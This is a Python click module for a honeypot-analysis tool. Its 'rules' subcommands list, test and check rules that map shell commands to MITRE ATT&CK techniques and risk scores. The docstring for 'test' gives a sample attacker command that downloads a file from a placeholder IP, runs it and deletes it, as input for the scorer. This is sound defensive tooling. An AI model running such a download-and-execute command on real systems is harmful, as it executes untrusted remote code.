"""`cowrie-assets rules`: the rules on techniques and risk, the project's and the user's own."""

from pathlib import Path
from typing import TYPE_CHECKING

import click

from cowrie_assets.cli.parameters import LocalPath, configured
from cowrie_assets.cli.printing import counted
from cowrie_assets.printable import printable

if TYPE_CHECKING:
    from cowrie_assets.cowrie.rule_set import RuleSet
    from cowrie_assets.cowrie.rule_table import Chain, Rule

_FILE = LocalPath(dir_okay=False)
_WIDTH = 10


@click.group(short_help="Rules on techniques and risk: list, test, check.")
def rules() -> None:
    """The rules that map commands to techniques of MITRE ATT&CK and score their risk: those of the project, and your
    own in the file that COWRIE_RULES_FILE names (docs/RULES.md).

    \b
    Examples:
      cowrie-assets rules test "uname -a"
      cowrie-assets rules check rules.toml
    """


@rules.command("list")
@click.option("--format", "output_format", type=click.Choice(["text", "json"]), default="text", show_default=True)
def list_rules(output_format: str) -> None:
    """List the rules in force: on techniques, on risk, chains.

    \b
    Example:
      cowrie-assets rules list
    """
    found = configured().rules
    if output_format == "json":
        import json

        document = {
            "techniques": [_technique_told(rule, found) for rule in found.techniques.rules],
            "risk": [_told(rule, found) | {"score": rule.score} for rule in found.risk.rules],
            "chains": [
                _told(chain, found) | {"bonus": chain.bonus, "needs": [sorted(group) for group in chain.groups]}
                for chain in found.risk.chains
            ],
        }
        click.echo(json.dumps(document, ensure_ascii=True, indent=2))
        return
    for rule in sorted(found.techniques.rules, key=lambda rule: (rule.technique, rule.name)):
        _line(rule.technique, rule.name, f"{rule.description}{_own(rule, found)}")
    for rule in found.risk.rules:
        _line(f"risk {rule.score}", rule.name, f"{rule.description}{_own(rule, found)}")
    for chain in found.risk.chains:
        _line(f"risk +{chain.bonus}", chain.name, f"{chain.description}{_own(chain, found)}")


@rules.command("test")
@click.argument("command")
def test_command(command: str) -> None:
    """Tell the risk of COMMAND, the techniques that it shows, and which rules say so; exit code 1 where none does.

    \b
    Example:
      cowrie-assets rules test "cd /tmp; wget http://192.0.2.1/x; sh x; rm x"
    """
    from cowrie_assets.cowrie.risk import HIGH_RISK

    found = configured().rules
    assessment, shown_by = found.risk.assess(command), found.techniques.shown_by(command)
    if not assessment.rules and not shown_by:
        raise click.ClickException("no rule matches it")
    click.echo(f"risk {assessment.score}{', high' if assessment.score >= HIGH_RISK else ''}")
    for rule in assessment.rules:
        _line(f"risk {rule.score}", rule.name, rule.description)
    for chain in assessment.chains:
        _line(f"risk +{chain.bonus}", chain.name, chain.description)
    for rule, needs_other in shown_by:
        after = f"; counts behind a command that shows {' or '.join(sorted(rule.after))}" if needs_other else ""
        technique = rule.technique
        _line(technique, rule.name, f"{found.attack.techniques[technique].now.name}{after}")


@rules.command()
@click.argument("file", type=_FILE)
def check(file: Path) -> None:
    """Tell whether FILE can be used as rules of your own: each is understood, and does what its examples say.

    \b
    Example:
      cowrie-assets rules check rules.toml
    """
    from cowrie_assets.rules_file import read_rules_file

    _, found = read_rules_file(file, named_by="")
    click.echo(f"{counted(len(found.own), 'rule')}, each does what its examples say")


def _line(says: str, name: str, what: str) -> None:
    click.echo(printable(f"{says:<{_WIDTH}} {name:<26} {what}"))


def _own(rule: "Rule | Chain", found: "RuleSet") -> str:
    return " (your own)" if rule in found.own else ""


def _told(rule: "Rule | Chain", found: "RuleSet") -> dict[str, object]:
    return {"rule": rule.name, "description": rule.description, "own": rule in found.own}


def _technique_told(rule: "Rule", found: "RuleSet") -> dict[str, object]:
    technique = found.attack.techniques[rule.technique]
    return _told(rule, found) | {
        "technique": rule.technique,
        "name": technique.now.name,
        "tactics": technique.now.tactics,
        "former_id": technique.before.id,
        "attack_version": found.attack.version,
    }
